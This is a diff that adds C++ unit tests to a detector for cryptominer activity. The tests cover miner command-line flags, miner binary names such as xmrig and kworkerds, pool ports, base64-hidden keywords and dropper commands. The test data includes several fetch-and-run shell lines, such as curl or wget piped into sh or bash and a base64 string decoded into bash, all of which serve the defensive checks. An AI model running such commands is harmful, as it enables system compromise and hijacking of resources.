@@ -3,6 +3,7 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <cctype>
 #include <set>
 
 namespace orderguard::policy {
@@ -105,6 +106,19 @@ TEST(MinerFlagTest, TwoOptionsInARowAreBothFound) {
   EXPECT_EQ(hits[1].token, 2u);
 }
 
+// The matchers skip a text on a cheap test of its characters first (TokenLine::char_classes,
+// the letter after "--"); case and position must not get past them.
+TEST(MinerFlagTest, OptionsInAnyCaseAfterOtherDoubleDashFlags) {
+  for (std::vector<std::string> argv :
+       std::vector<std::vector<std::string>>{{"--DONATE-LEVEL=1"},
+                                             {"--listen=:8080", "--log-format=json", "--Nicehash"},
+                                             {"app --verbose --Cpu-Priority 5"},
+                                             {"-x", "--HUGE-PAGES-JIT"},
+                                             {"sh", "-c", "MODPROBE MSR"}}) {
+    EXPECT_FALSE(find(&Indicators::find_miner_flags, argv).empty()) << argv.back();
+  }
+}
+
 TEST(MinerFlagTest, FlagsThatAreMinerFlagsBecauseOfTheirValue) {
   for (std::vector<std::string> argv :
        std::vector<std::vector<std::string>>{{"-a", "rx/0"},
@@ -154,6 +168,24 @@ TEST(MinerBinaryTest, NamesAsAnyPathComponent) {
   }
 }
 
+// find_miner_binaries skips a line by its character classes first: every name must still
+// get through, as a path component and in upper case.
+TEST(MinerBinaryTest, EveryBuiltInNameIsFound) {
+  for (const MinerBinary& b : builtin_miner_binaries()) {
+    std::string upper(b.name);
+    for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
+    EXPECT_EQ(find_in(&Indicators::find_miner_binaries, "/opt/" + std::string(b.name)).size(), 1u)
+        << b.name;
+    EXPECT_EQ(find(&Indicators::find_miner_binaries, {"run", upper}).size(), 1u) << upper;
+  }
+}
+
+TEST(MinerBinaryTest, NamesWithDigitsDashesAndCapitals) {
+  for (std::string s : {"/opt/T-Rex", "KWORKERDS3", "/usr/local/bin/Xmr-Stak", "PWNRIG.sh"}) {
+    EXPECT_EQ(find_in(&Indicators::find_miner_binaries, s).size(), 1u) << s;
+  }
+}
+
 TEST(MinerBinaryTest, CommIsTruncatedToFifteenCharacters) {
   EXPECT_EQ(ind().miner_binary_from_comm("dero-miner-linu"), "dero-miner-linux-amd64");
   EXPECT_EQ(ind().miner_binary_from_comm("xmrig"), "xmrig");
@@ -186,7 +218,8 @@ TEST(DropperTest, DownloadAndRun) {
         "sh -c \"$(curl -fsSL http://x/install.sh)\"", "bash <(curl -s http://x/a)",
         "echo ZWNobyBoaQ== | base64 -d | bash", "chmod +x /tmp/kworkerds && /tmp/kworkerds",
         "chmod 777 /var/tmp/.x/run", "cd /tmp && wget http://x/m && chmod +x m && ./m",
-        "curl -o /dev/shm/x http://x/m; sh /dev/shm/x"}) {
+        "curl -o /dev/shm/x http://x/m; sh /dev/shm/x", "CURL -s http://x/a.sh | SH",
+        "Wget -q -O - http://x/a | Bash"}) {
     EXPECT_FALSE(find_in(&Indicators::find_droppers, s).empty()) << s;
   }
   for (std::string s :
@@ -232,6 +265,12 @@ TEST(MinerPortTest, OnlyEndpointsOnMinerPorts) {
   EXPECT_TRUE(hits_for("localhost:4444").empty());
   EXPECT_TRUE(hits_for("http://backend:8080").empty());
   EXPECT_TRUE(hits_for("backend:33333").empty());
+  // The port is the whole digit run after a colon, wherever it is in the line.
+  EXPECT_EQ(hits_for("--listen=:8080 -o pool.example:3333").size(), 1u);
+  EXPECT_EQ(hits_for("[2001:db8::1]:3333").size(), 1u);
+  EXPECT_EQ(hits_for("x:1 a:03333").size(), 1u);
+  EXPECT_TRUE(hits_for("backend:333333").empty());
+  EXPECT_TRUE(hits_for("backend:3333x").empty());
 }
 
 TEST(Base64Test, AlignmentsMatchSigma) {
@@ -273,6 +312,24 @@ TEST(Base64Test, EveryKeywordAtEveryAlignmentIsFound) {
       ASSERT_FALSE(hits.empty()) << keyword << " after " << prefix.size() << " bytes";
       EXPECT_NE(hits[0].message.find(keyword), std::string::npos) << hits[0].message;
       EXPECT_EQ(hits[0].token, 1u);
+    }
+  }
+}
+
+// The fragment prefilter looks at every third 4-byte window only; a fragment must be found
+// wherever it starts in the text.
+TEST(Base64Test, EveryKeywordAtEveryTextOffsetIsFound) {
+  for (std::string_view keyword : base64_keywords()) {
+    for (std::string prefix : {"", "a", "ab"}) {
+      for (std::string lead : {"", "Q", "QU", "QUJ", "QUJDR"}) {
+        std::string blob = lead + encode(prefix + std::string(keyword) + "zz");
+        std::vector<IndicatorHit> hits;
+        ind().find_base64(TokenLine({blob}), ind().pool_domains(), &hits);
+        const std::string want = "base64 form of \"" + std::string(keyword) + "\"";
+        EXPECT_TRUE(std::any_of(hits.begin(), hits.end(),
+                                [&](const IndicatorHit& h) { return h.message == want; }))
+            << keyword << " after " << prefix.size() << " bytes, " << lead.size() << " ahead";
+      }
     }
   }
 }
